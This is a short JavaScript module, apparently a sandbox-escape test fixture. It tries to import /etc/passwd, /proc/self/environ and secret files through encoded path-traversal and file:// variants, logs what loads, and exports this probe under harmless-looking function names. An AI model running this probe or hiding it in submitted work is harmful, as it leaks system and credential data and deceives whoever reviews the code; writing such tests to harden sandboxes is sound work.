// Imports files outside of its folder by paths written in every odd way.
const paths = [
  '../../../../../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  './%2e%2e/%2e%2e/%2e%2e/secret.txt',
  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  'FILE:///stage/../etc/passwd',
  'file:///stage/..%2fetc/passwd',
  '../../secret.ts',
  '../secret.ts',
  './secret.txt',
  '/proc/self/environ',
  '/proc/self/cwd/../etc/hostname',
  `${import.meta.url}/../../../../secret.ts`,
];
const found = await Promise.allSettled(paths.map((path) => import(path)));
const attack = () => {
  console.log(found.map((one) => (one.status === 'fulfilled' ? { ...one.value } : one.reason.message)));
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
